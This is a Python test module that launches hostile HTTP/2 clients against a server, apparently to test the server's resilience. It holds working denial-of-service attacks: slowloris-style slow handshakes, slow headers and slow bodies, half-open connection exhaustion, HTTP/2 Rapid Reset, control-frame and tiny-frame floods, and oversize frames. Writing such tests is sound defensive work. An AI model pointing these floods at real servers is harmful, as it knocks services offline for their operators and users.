"""Peers that are slow, broken or worse, as a program of its own:

    python -m tests.hostile.attackers KIND FOLDER HOST PORT PATH COUNT

It says "ready" when it is at it, and goes on until its standard input ends; then it says what it saw.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import attrs
import hpack

__all__ = ["ATTACKS", "Target"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
JSON = [("content-type", "application/kvsp+json")]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


@attrs.define
class Target:
    """Who is attacked, with the certificate of one who is let in."""

    folder: Path
    host: str
    port: int
    path: str
    stop: threading.Event = attrs.field(factory=threading.Event)
    open: list[socket.socket] = attrs.field(factory=list)
    refused: int = 0
    _context: ssl.SSLContext | None = None

    def plain(self) -> socket.socket | None:
        """Open a connection that says nothing yet; None where it is not let in."""
        try:
            made = socket.create_connection((self.host, self.port), timeout=5)
        except OSError:
            self.refused += 1
            return None
        self.open.append(made)
        return made

    def secure(self, preface: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> ssl.SSLSocket | None:
        """Open a connection that has agreed on HTTP/2."""
        if self._context is None:
            self._context = ssl.create_default_context(cafile=str(self.folder / "ca.pem"))
            self._context.load_cert_chain(self.folder / "attacker.pem", self.folder / "attacker.key")
            self._context.set_alpn_protocols(["h2"])
        plain = self.plain()
        if plain is None:
            return None
        try:
            made = self._context.wrap_socket(plain, server_hostname=self.host)
            made.sendall(preface)
        except OSError:
            self.refused += 1
            return None
        self.open.append(made)
        return made

    def head(self, method: str, resource: str, more: list[tuple[str, str]] | None = None) -> bytes:
        """Return the header block of a request."""
        fields = [(":method", method), (":scheme", "https"), (":authority", f"{self.host}:{self.port}")]
        encoder = hpack.Encoder()
        return bytes(encoder.encode([*fields, (":path", self.path + resource), *(more or [])]))

    def each(self, act: Callable[[socket.socket], object], pause_s: float) -> None:
        """Do something with each connection, again and again; those that end are counted and forgotten."""
        while not self.stop.is_set():
            for one in list(self.open):
                if self.stop.is_set():
                    return
                try:
                    act(one)
                except OSError:
                    self.refused += 1
                    self.open.remove(one)
            self.stop.wait(pause_s)


Attack = Callable[[Target, int], Callable[[], None]]
"""Sets out with so many connections; what it returns goes on until the target says stop."""


def still_there(one: socket.socket) -> None:
    """Look whether the server has ended a connection, which is then an `OSError`."""
    with contextlib.suppress(BlockingIOError):
        if not one.recv(1, socket.MSG_DONTWAIT):
            raise ConnectionResetError


def half_open(target: Target, count: int) -> Callable[[], None]:
    """Connections on which nothing is ever said."""
    for _ in range(count):
        target.plain()
    return lambda: target.each(still_there, 0.5)


def slow_handshake(target: Target, count: int) -> Callable[[], None]:
    """A TLS handshake, an octet at a time."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    for _ in range(count):
        target.plain()
    sent = 0

    def act(one: socket.socket) -> None:
        one.send(hello[sent % len(hello) : sent % len(hello) + 1])

    def go_on() -> None:
        nonlocal sent
        while not target.stop.is_set():
            for one in list(target.open):
                try:
                    act(one)
                except OSError:
                    target.refused += 1
                    target.open.remove(one)
            sent += 1
            target.stop.wait(0.5)

    return go_on


def slow_head(target: Target, count: int) -> Callable[[], None]:
    """The head of a request, an octet at a time."""
    begun = frame(HEADERS, END_HEADERS, 1, target.head("GET", "ext/index"))[:11]
    for _ in range(count):
        target.secure(PREFACE + frame(SETTINGS, 0, 0) + begun)
    return lambda: target.each(lambda one: one.send(b"\x00"), 1.0)


def slow_body(target: Target, count: int) -> Callable[[], None]:
    """A body of a megabyte, an octet at a time, on ten exchanges of each connection."""
    for _ in range(count):
        made = target.secure()
        if made is not None:
            block = target.head("POST", "lookup", [*JSON, ("content-length", "1000000")])
            for stream in range(1, 21, 2):
                made.sendall(frame(HEADERS, END_HEADERS, stream, block))
    return lambda: target.each(
        lambda one: one.send(b"".join(frame(DATA, 0, n, b"{") for n in range(1, 21, 2))), 1.0
    )


def stalled_readers(target: Target, count: int) -> Callable[[], None]:
    """Requests whose answers are never read, a hundred on each connection."""
    block = target.head("GET", "nowhere")
    burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 201, 2))
    for _ in range(count):
        made = target.secure()
        if made is not None:
            with contextlib.suppress(OSError):
                made.sendall(burst)
    return lambda: target.each(lambda one: one.send(frame(PING, 0, 0, bytes(8))), 0.05)


def rapid_reset(target: Target, count: int) -> Callable[[], None]:
    """Requests that are reset at once, as fast as they are taken."""
    block = target.head("GET", "ext/index")

    def go_on() -> None:
        while not target.stop.is_set():
            made = target.secure()
            stream = 1
            with contextlib.suppress(OSError):
                while made is not None and not target.stop.is_set():
                    burst = b""
                    for number in range(stream, stream + 200, 2):
                        burst += frame(HEADERS, END_HEADERS | END_STREAM, number, block)
                        burst += frame(RST, 0, number, b"\x00\x00\x00\x08")
                    made.sendall(burst)
                    stream += 200
            target.refused += 1
            target.stop.wait(0.2)

    return go_on


def late_reset(target: Target, count: int) -> Callable[[], None]:
    """Requests that are reset as soon as they are told of, a hundred at a time."""
    block = target.head("GET", "ext/index")

    def go_on() -> None:
        while not target.stop.is_set():
            made, first = target.secure(), 1
            with contextlib.suppress(OSError):
                while made is not None and not target.stop.is_set():
                    streams = range(first, first + 200, 2)
                    made.sendall(
                        b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, block) for n in streams)
                    )
                    target.stop.wait(0.002)
                    made.sendall(b"".join(frame(RST, 0, n, b"\x00\x00\x00\x08") for n in streams))
                    first += 200
            target.refused += 1
            target.stop.wait(0.2)

    return go_on


def tiny_frames(target: Target, count: int) -> Callable[[], None]:
    """Bodies in frames of an octet each, as fast as they are taken."""
    post = frame(HEADERS, END_HEADERS, 1, target.head("POST", "lookup", JSON))
    flood = frame(DATA, 0, 1, b" ") * 1000

    def go_on() -> None:
        while not target.stop.is_set():
            made = target.secure()
            with contextlib.suppress(OSError):
                if made is not None:
                    made.sendall(post)
                    for _ in range(500):
                        if target.stop.is_set():
                            return
                        made.sendall(flood)
            target.refused += 1

    return go_on


def control_floods(target: Target, count: int) -> Callable[[], None]:
    """Frames that bring nothing, of each kind in turn, until the server ends the connection."""
    get = target.head("GET", "ext/index")
    floods = (
        frame(PING, 0, 0, bytes(8)),
        frame(SETTINGS, 0, 0),
        frame(PRIORITY, 0, 3, bytes(5)),
        frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01"),
        frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x04\x00"),
        frame(0x77, 0, 0, b"?"),
        frame(HEADERS, END_STREAM, 1, get[:1]) + frame(CONTINUATION, 0, 1) * 1000,
        frame(HEADERS, END_HEADERS, 1, target.head("POST", "lookup", JSON)) + frame(DATA, 0, 1) * 1000,
    )

    def go_on() -> None:
        turn = 0
        while not target.stop.is_set():
            made = target.secure()
            flood = floods[turn % len(floods)]
            until = time.monotonic() + 0.5
            with contextlib.suppress(OSError):
                while made is not None and not target.stop.is_set() and time.monotonic() < until:
                    made.sendall(flood if len(flood) > 1000 else flood * 1000)
            target.refused += 1
            turn += 1

    return go_on


def oversize(target: Target, count: int) -> Callable[[], None]:
    """Frames, header lists and bodies beyond every limit, one connection after the other."""
    large = [(f"x-{number}", "y" * 8000) for number in range(20)]
    post, octets = target.head("POST", "lookup", JSON), frame(DATA, 0, 1, bytes(1 << 20))
    long = target.head("POST", "lookup", [*JSON, ("content-length", "9" * 15)])
    bodies = (
        frame(HEADERS, END_HEADERS, 1, target.head("GET", "ext/index", large)[:16000]),
        struct.pack(">I", (1 << 24) - 1)[1:] + struct.pack(">BBI", DATA, 0, 1) + bytes(1 << 16),
        frame(HEADERS, END_HEADERS, 1, long),
        frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 1) * 2000),
        frame(HEADERS, END_HEADERS, 1, post) + octets * 8,
    )

    def go_on() -> None:
        turn = 0
        while not target.stop.is_set():
            made = target.secure()
            if made is not None:
                with contextlib.suppress(OSError):
                    made.sendall(bodies[turn % len(bodies)])
                    made.settimeout(1)
                    made.recv(65536)
                made.close()
            turn += 1
            target.stop.wait(0.02)

    return go_on


def resets_everywhere(target: Target, count: int) -> Callable[[], None]:
    """Connections that are reset after each number of octets of an exchange, from the handshake on."""
    import random

    drawn = random.Random(1)
    post = frame(HEADERS, END_HEADERS, 1, target.head("POST", "lookup", JSON))
    whole = PREFACE + frame(SETTINGS, 0, 0) + post + frame(DATA, 1, 1, b"{}" * 50)

    def go_on() -> None:
        while not target.stop.is_set():
            if drawn.random() < 0.3:
                made: socket.socket | None = target.plain()
                if made is not None:
                    with contextlib.suppress(OSError):
                        made.send(drawn.randbytes(drawn.randrange(1, 300)))
            else:
                made = target.secure(whole[: drawn.randrange(len(whole) + 1)])
            if made is not None:
                with contextlib.suppress(OSError):
                    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                made.close()
            target.open.clear()
            target.stop.wait(0.01)

    return go_on


ATTACKS: dict[str, tuple[Attack, int]] = {
    "half-open": (half_open, 1000),
    "slow handshake": (slow_handshake, 500),
    "slow head": (slow_head, 200),
    "slow body": (slow_body, 100),
    "stalled readers": (stalled_readers, 50),
    "rapid reset": (rapid_reset, 1),
    "late reset": (late_reset, 1),
    "tiny frames": (tiny_frames, 1),
    "control frames": (control_floods, 1),
    "oversize": (oversize, 1),
    "resets at every step": (resets_everywhere, 1),
    "beyond the limit": (half_open, 6000),
}
"""Each with how many connections it uses."""


def main(arguments: list[str]) -> None:
    kind, folder, host, port, path, count = arguments
    target = Target(Path(folder), host, int(port), path)
    go_on = ATTACKS[kind][0](target, int(count))
    thread = threading.Thread(target=go_on, daemon=True)
    thread.start()
    print("ready", flush=True)
    sys.stdin.read()
    target.stop.set()
    thread.join(5)
    print(f"{target.refused} ended by the server, {len(target.open)} still open", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
